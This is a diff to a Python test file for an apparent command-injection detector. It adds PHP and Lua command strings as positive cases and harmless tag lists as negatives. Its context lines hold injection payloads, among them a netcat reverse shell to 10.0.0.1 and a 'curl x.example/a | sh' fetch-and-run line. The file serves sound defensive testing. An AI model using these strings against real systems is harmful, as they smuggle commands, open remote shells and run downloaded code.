@@ -108,7 +108,8 @@ CASES: tuple[Case, ...] = (
          # Short command names alone after a separator, in any case but all capitals (a shell
          # finds no "NC"); in capitals with an argument shape; a pipe into sh; 2>&1 ending it.
          "127.0.0.1 | id", "| iD", "|Nc", "x;pHp", "|nl|", "| NC -e /bin/sh 10.0.0.1 4444",
-         ";LS -la", "curl x.example/a | sh", "x |sh #", "; id 2>&1", "x\niD\n", "x\npwd", "x | Sleep 10", "; kill 1234"),
+         ";LS -la", "curl x.example/a | sh", "x |sh #", "; id 2>&1", "x\niD\n", "x\npwd", "x | Sleep 10", "; kill 1234",
+         "| php -r 'system(1);'", ";php;", "; lua -e 'os.execute(1)'"),
         ("bash guitar pedal", "Tom & Jerry", "cat food; dog food", "drop me a line", "salt & pepper",
          "python 3.10 release notes", "cd music; then play", "Thanks; Bob --sent from my phone",
          "Options; see --help for more", "I like apples; pears -- not so much", "| Use --force | yes |",
@@ -139,7 +140,9 @@ CASES: tuple[Case, ...] = (
          # English command words as product model names in a pipe-separated title.
          "Bishop | Time 509 | Steel | Size M", "Brand | Less 473", "Hernandez | Source 601 | Red",
          # Shell words in prose: a redirection not ending a command, chmod's mode then prose.
-         "2>&1 meaning", "what does 2>&1 do in bash", "then chmod +x on it and run"),
+         "2>&1 meaning", "what does 2>&1 do in bash", "then chmod +x on it and run",
+         # Languages in a lowercase tag list.
+         "skills: java; php; mysql", "Tags: lua | python"),
     ),
     Case(
         "UNIXCommandSplicing",
